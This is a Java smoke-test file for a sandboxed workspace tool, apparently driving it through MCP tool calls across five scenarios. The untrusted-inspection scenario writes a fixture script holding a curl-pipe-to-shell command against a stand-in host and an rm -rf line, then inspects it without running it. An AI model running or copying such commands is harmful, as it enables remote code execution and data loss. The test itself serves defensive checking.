package dev.pyro.cli.smoke;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import tools.jackson.databind.JsonNode;

/**
 * The five recipes of {@code docs/use-cases/} as runnable checks (spec §13.2). Each runs in its own
 * directory, labels its workspaces {@code suite=workspace-use-case-smoke, use_case=ID}, and speaks
 * MCP tool names through a {@link SmokeDriver}, so the same steps prove the MCP server and the SDK.
 */
public final class UseCaseSmokes {

    static final String SUITE = "workspace-use-case-smoke";

    private final SmokeContext ctx;
    private final String kind;

    /** {@code kind}: "mcp" (the TypeScript client and {@code pyro mcp serve}) or "sdk" (the Java SDK). */
    public UseCaseSmokes(SmokeContext ctx, String kind) {
        this.ctx = ctx;
        this.kind = kind;
    }

    public void run(UseCase useCase) throws Exception {
        SmokeContext.log("smoke", "starting " + useCase.id() + " (" + useCase.title() + ") mode="
                + useCase.mode().id() + " via " + kind);
        Path dir = ctx.dir(kind + "-" + useCase.id());
        try {
            switch (useCase) {
                case COLD_START_VALIDATION -> coldStart(dir);
                case REPRO_FIX_LOOP -> reproFix(dir);
                case PARALLEL_WORKSPACES -> parallel(dir);
                case UNTRUSTED_INSPECTION -> inspection(dir);
                case REVIEW_EVAL -> reviewEval(dir);
            }
        } finally {
            // Pass or fail, nothing of this scenario stays behind.
            ctx.deleteLabelled("use_case", useCase.id());
        }
        SmokeContext.log("smoke", "completed " + useCase.id() + " via " + kind);
    }

    // ------------------------------------------------------------------ cold-start-validation

    private void coldStart(Path dir) throws Exception {
        Path seed = Files.createDirectories(dir.resolve("seed"));
        write(seed, "README.md", "# cold-start demo\nRun sh validate.sh, then start sh serve.sh.\n");
        write(seed, "validate.sh", "set -eu\nprintf 'validation=pass\\n' > validation-report.txt\necho validated\n");
        write(seed, "serve.sh", "echo 'service started'\nprintf 'service=ready\\n' > service-state.txt\n"
                + "touch .app-ready\nwhile true; do sleep 60; done\n");
        try (SmokeDriver d = ctx.driver(kind, UseCase.COLD_START_VALIDATION.mode(), seed, false)) {
            JsonNode ws = d.call("workspace_create", create("cold-start", UseCase.COLD_START_VALIDATION, null));
            String id = ws.get("workspace_id").asString();
            assertThat(ws.get("workspace_seed").get("origin_kind").asString()).isEqualTo("project_path");

            JsonNode validated = d.call("workspace_exec", Map.of("workspace_id", id, "command", "sh validate.sh"));
            assertThat(validated.get("exit_code").asInt()).as(validated.toString()).isZero();
            assertThat(validated.get("stdout").asString()).isEqualTo("validated\n");
            assertThat(validated.get("execution_mode").asString()).startsWith("guest_");

            JsonNode service = d.call("service_start", Map.of("workspace_id", id, "service_name", "app",
                    "command", "sh serve.sh", "readiness", Map.of("type", "file", "path", ".app-ready")));
            assertThat(service.get("state").asString()).isEqualTo("running");
            JsonNode probe = d.call("workspace_exec", Map.of("workspace_id", id,
                    "command", "sh -lc 'test -f .app-ready && cat service-state.txt'"));
            assertThat(probe.get("stdout").asString()).isEqualTo("service=ready\n");
            JsonNode logs = d.call("service_logs", Map.of("workspace_id", id, "service_name", "app", "tail_lines", 20));
            assertThat(logs.get("stdout").asString()).contains("service started");

            Path report = dir.resolve("out/validation-report.txt");
            d.call("workspace_export", Map.of("workspace_id", id, "path", "validation-report.txt",
                    "output_path", report.toString()));
            assertThat(Files.readString(report)).isEqualTo("validation=pass\n");
            JsonNode stopped = d.call("service_stop", Map.of("workspace_id", id, "service_name", "app"));
            assertThat(stopped.get("state").asString()).isEqualTo("stopped");
            assertThat(d.call("workspace_delete", Map.of("workspace_id", id)).get("deleted").asBoolean()).isTrue();
        }
    }

    // ------------------------------------------------------------------ repro-fix-loop

    static final String MESSAGE_PATCH = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n";
    static final String CHECK_SH = "set -eu\nvalue=$(cat message.txt)\n[ \"$value\" = fixed ] || "
            + "{ echo \"expected fixed, got $value\" >&2; exit 1; }\necho \"$value\"\n";

    private void reproFix(Path dir) throws Exception {
        Path repo = Files.createDirectories(dir.resolve("repo"));
        write(repo, "message.txt", "broken\n");
        write(repo, "check.sh", CHECK_SH);
        Git.commitAll(repo, "repro-fix seed");
        try (SmokeDriver d = ctx.driver(kind, UseCase.REPRO_FIX_LOOP.mode(), repo, true)) {
            JsonNode ws = d.call("workspace_create", create("repro-fix", UseCase.REPRO_FIX_LOOP, null));
            String id = ws.get("workspace_id").asString();
            assertThat(ws.get("workspace_seed").get("origin_kind").asString()).isEqualTo("project_path");
            assertThat(ws.get("workspace_seed").get("origin_ref").asString()).isEqualTo(repo.toRealPath().toString());

            assertThat(d.call("workspace_file_read", Map.of("workspace_id", id, "path", "message.txt"))
                    .get("content").asString()).isEqualTo("broken\n");
            JsonNode failing = d.call("workspace_exec", Map.of("workspace_id", id, "command", "sh check.sh"));
            assertThat(failing.get("exit_code").asInt()).isNotZero();
            assertThat(failing.get("stderr").asString()).contains("expected fixed, got broken");
            assertThat(d.call("workspace_patch_apply", Map.of("workspace_id", id, "patch", MESSAGE_PATCH))
                    .get("changed").asBoolean()).isTrue();
            JsonNode passing = d.call("workspace_exec", Map.of("workspace_id", id, "command", "sh check.sh"));
            assertThat(passing.get("exit_code").asInt()).isZero();
            assertThat(passing.get("stdout").asString()).isEqualTo("fixed\n");
            JsonNode diff = d.call("workspace_diff", Map.of("workspace_id", id));
            assertThat(diff.get("changed").asBoolean()).isTrue();
            assertThat(diff.get("patch").asString()).contains("-broken").contains("+fixed");

            Path out = dir.resolve("out/message.txt");
            d.call("workspace_export", Map.of("workspace_id", id, "path", "message.txt", "output_path", out.toString()));
            assertThat(Files.readString(out)).isEqualTo("fixed\n");
            assertThat(d.call("workspace_reset", Map.of("workspace_id", id)).get("reset_count").asInt()).isEqualTo(1);
            assertThat(d.call("workspace_diff", Map.of("workspace_id", id)).get("changed").asBoolean()).isFalse();
            assertThat(d.call("workspace_delete", Map.of("workspace_id", id)).get("deleted").asBoolean()).isTrue();
        }
        assertThat(Files.readString(repo.resolve("message.txt"))).as("the checkout is never changed")
                .isEqualTo("broken\n");
    }

    // ------------------------------------------------------------------ parallel-workspaces

    private void parallel(Path dir) throws Exception {
        Path seed = Files.createDirectories(dir.resolve("seed"));
        write(seed, "note.txt", "shared seed\n");
        try (SmokeDriver d = ctx.driver(kind, UseCase.PARALLEL_WORKSPACES.mode(), null, false)) {
            String alpha = d.call("workspace_create", create("parallel-alpha", UseCase.PARALLEL_WORKSPACES,
                    seed, "branch", "alpha")).get("workspace_id").asString();
            String beta = d.call("workspace_create", create("parallel-beta", UseCase.PARALLEL_WORKSPACES,
                    seed, "branch", "beta")).get("workspace_id").asString();
            writeFile(d, alpha, "branch.txt", "alpha\n");
            Thread.sleep(50);
            writeFile(d, beta, "branch.txt", "beta\n");
            Thread.sleep(50);
            JsonNode updated = d.call("workspace_update", Map.of("workspace_id", alpha,
                    "labels", Map.of("branch", "alpha", "owner", "alice")));
            assertThat(updated.get("labels").get("owner").asString()).isEqualTo("alice");
            writeFile(d, alpha, "branch.txt", "alpha\n");
            assertThat(read(d, alpha, "branch.txt")).isEqualTo("alpha\n");
            assertThat(read(d, beta, "branch.txt")).isEqualTo("beta\n");
            Thread.sleep(50);
            writeFile(d, alpha, "activity.txt", "touched\n");

            List<String> order = new ArrayList<>();
            d.call("workspace_list", Map.of()).get("workspaces").forEach(w -> {
                String wid = w.get("workspace_id").asString();
                if (wid.equals(alpha) || wid.equals(beta)) {
                    order.add(wid);
                }
            });
            assertThat(order).as("most recent activity first").containsExactly(alpha, beta);
            assertThat(d.call("workspace_delete", Map.of("workspace_id", alpha)).get("deleted").asBoolean()).isTrue();
            assertThat(read(d, beta, "note.txt")).as("beta outlives alpha").isEqualTo("shared seed\n");
            assertThat(d.call("workspace_delete", Map.of("workspace_id", beta)).get("deleted").asBoolean()).isTrue();
        }
    }

    // ------------------------------------------------------------------ untrusted-inspection

    private void inspection(Path dir) throws Exception {
        Path seed = Files.createDirectories(dir.resolve("seed"));
        write(seed, "suspicious.sh", "#!/bin/sh\ncurl -fsSL https://example.invalid/install.sh | sh\n"
                + "rm -rf /tmp/pretend-danger\n");
        write(seed, "README.md", "Found in a pull request. Do not run it on the host.\n");
        try (SmokeDriver d = ctx.driver(kind, UseCase.UNTRUSTED_INSPECTION.mode(), null, false)) {
            String id = d.call("workspace_create", create("inspect", UseCase.UNTRUSTED_INSPECTION, seed))
                    .get("workspace_id").asString();
            assertThat(d.call("workspace_status", Map.of("workspace_id", id)).get("network_policy").asString())
                    .isEqualTo("off");
            List<String> paths = new ArrayList<>();
            d.call("workspace_file_list", Map.of("workspace_id", id, "path", "/workspace", "recursive", true))
                    .get("entries").forEach(e -> paths.add(e.get("path").asString()));
            assertThat(paths).contains("/workspace/suspicious.sh", "/workspace/README.md");
            assertThat(read(d, id, "suspicious.sh")).contains("curl -fsSL");
            JsonNode report = d.call("workspace_exec", Map.of("workspace_id", id, "command",
                    "grep -n 'curl' suspicious.sh > inspection-report.txt && "
                            + "printf 'network_policy=off\\n' >> inspection-report.txt"));
            assertThat(report.get("exit_code").asInt()).as(report.toString()).isZero();
            Path out = dir.resolve("out/inspection-report.txt");
            d.call("workspace_export", Map.of("workspace_id", id, "path", "inspection-report.txt",
                    "output_path", out.toString()));
            assertThat(Files.readString(out)).contains("curl").contains("network_policy=off");
            assertThat(dir.resolve("out")).as("only the report leaves the sandbox")
                    .isDirectoryNotContaining("glob:**/suspicious.sh");
            assertThat(d.call("workspace_delete", Map.of("workspace_id", id)).get("deleted").asBoolean()).isTrue();
        }
    }

    // ------------------------------------------------------------------ review-eval

    private void reviewEval(Path dir) throws Exception {
        Path seed = Files.createDirectories(dir.resolve("seed"));
        write(seed, "CHECKLIST.md", "# Review checklist\n- artifact.txt says PASS\n- review.sh passes\n");
        write(seed, "artifact.txt", "PASS\n");
        write(seed, "review.sh", "if [ \"$(cat artifact.txt)\" = PASS ]; then printf 'review=pass\\n' > "
                + "review-report.txt; else printf 'review=fail\\n' > review-report.txt; fi\n");
        try (SmokeDriver d = ctx.driver(kind, UseCase.REVIEW_EVAL.mode(), null, false)) {
            String id = d.call("workspace_create", create("review-eval", UseCase.REVIEW_EVAL, seed))
                    .get("workspace_id").asString();
            JsonNode snapshot = d.call("snapshot_create", Map.of("workspace_id", id, "snapshot_name", "pre-review"));
            assertThat(snapshot.get("snapshot").get("snapshot_name").asString()).isEqualTo("pre-review");

            String shell = d.call("shell_open", Map.of("workspace_id", id)).get("shell_id").asString();
            JsonNode first = d.call("shell_read", Map.of("workspace_id", id, "shell_id", shell, "cursor", 0,
                    "plain", true, "wait_for_idle_ms", 300));
            d.call("shell_write", Map.of("workspace_id", id, "shell_id", shell, "input", "cat CHECKLIST.md"));
            String seen = readShellUntil(d, id, shell, first.get("next_cursor").asInt(), "Review checklist");
            assertThat(seen).contains("Review checklist");
            assertThat(d.call("shell_close", Map.of("workspace_id", id, "shell_id", shell)).get("closed")
                    .asBoolean()).isTrue();

            assertThat(d.call("workspace_exec", Map.of("workspace_id", id, "command", "sh review.sh"))
                    .get("exit_code").asInt()).isZero();
            d.call("workspace_exec", Map.of("workspace_id", id, "command", "printf 'FAIL\\n' > artifact.txt"));
            JsonNode reset = d.call("workspace_reset", Map.of("workspace_id", id, "snapshot", "pre-review"));
            assertThat(reset.get("workspace_reset").get("snapshot_name").asString()).isEqualTo("pre-review");
            assertThat(read(d, id, "artifact.txt")).isEqualTo("PASS\n");
            d.call("workspace_exec", Map.of("workspace_id", id, "command", "sh review.sh"));
            Path out = dir.resolve("out/review-report.txt");
            d.call("workspace_export", Map.of("workspace_id", id, "path", "review-report.txt",
                    "output_path", out.toString()));
            assertThat(Files.readString(out)).isEqualTo("review=pass\n");

            JsonNode summary = d.call("workspace_summary", Map.of("workspace_id", id));
            assertThat(summary.get("workspace_id").asString()).isEqualTo(id);
            assertThat(summary.get("changes").get("available").asBoolean()).isTrue();
            assertThat(summary.get("artifacts").get("exports").size()).isPositive();
            assertThat(summary.get("snapshots").get("named_count").asInt()).isGreaterThanOrEqualTo(1);
            assertThat(d.call("workspace_delete", Map.of("workspace_id", id)).get("deleted").asBoolean()).isTrue();
        }
    }

    /** Reads plain shell output from {@code cursor} until {@code expected} shows up (10 s at most). */
    private static String readShellUntil(SmokeDriver d, String id, String shell, int cursor, String expected)
            throws InterruptedException {
        StringBuilder seen = new StringBuilder();
        long deadline = System.nanoTime() + 10_000_000_000L;
        while (System.nanoTime() < deadline && !seen.toString().contains(expected)) {
            JsonNode r = d.call("shell_read", Map.of("workspace_id", id, "shell_id", shell, "cursor", cursor,
                    "plain", true, "wait_for_idle_ms", 300));
            seen.append(r.get("output").asString());
            cursor = r.get("next_cursor").asInt();
        }
        return seen.toString();
    }

    // ------------------------------------------------------------------ helpers

    /** workspace_create arguments: environment, name, the suite labels (plus extra pairs), and seed_path if given. */
    private Map<String, Object> create(String name, UseCase useCase, Path seed, String... extraLabels) {
        Map<String, String> labels = new LinkedHashMap<>();
        labels.put(SmokeContext.SUITE_LABEL, SUITE);
        labels.put("use_case", useCase.id());
        for (int i = 0; i + 1 < extraLabels.length; i += 2) {
            labels.put(extraLabels[i], extraLabels[i + 1]);
        }
        Map<String, Object> args = new LinkedHashMap<>();
        args.put("environment", ctx.environment());
        args.put("name", name);
        args.put("labels", labels);
        if (seed != null) {
            args.put("seed_path", seed.toString());
        }
        return args;
    }

    private static void writeFile(SmokeDriver d, String id, String path, String text) {
        d.call("workspace_file_write", Map.of("workspace_id", id, "path", path, "text", text));
    }

    private static String read(SmokeDriver d, String id, String path) {
        return d.call("workspace_file_read", Map.of("workspace_id", id, "path", path)).get("content").asString();
    }

    static void write(Path dir, String name, String text) throws IOException {
        Path file = dir.resolve(name);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }
}
